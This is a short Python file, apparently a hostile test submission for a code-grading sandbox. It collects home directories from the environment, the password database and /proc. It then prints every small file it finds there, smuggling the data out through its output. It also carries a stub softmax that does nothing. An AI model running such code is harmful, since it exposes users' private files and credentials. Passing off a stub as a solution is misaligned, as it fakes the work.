"""Hostile submission: read the user's files and smuggle them out in its own output.

Candidate home folders: $HOME, the password database, HOME in the environment of every process
in /proc. Print every small file found there (the report shows what the solution printed).
"""

import os
import pwd

homes = {os.environ.get("HOME", ""), pwd.getpwuid(os.getuid()).pw_dir}
for pid in (p for p in os.listdir("/proc") if p.isdigit()):
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            homes.update(i[5:].decode(errors="ignore") for i in f.read().split(b"\0") if i.startswith(b"HOME="))
    except OSError:
        pass

for home in sorted(h for h in homes if h and os.path.isdir(h)):
    try:
        names = os.listdir(home)
    except OSError:
        continue
    for name in names:
        path = os.path.join(home, name)
        try:
            if os.path.isfile(path) and os.path.getsize(path) < 4096:
                with open(path, errors="replace") as f:
                    print(f"{path}: {f.read()}")
        except OSError:
            pass


def softmax(x, dim=-1):
    return x.clone()
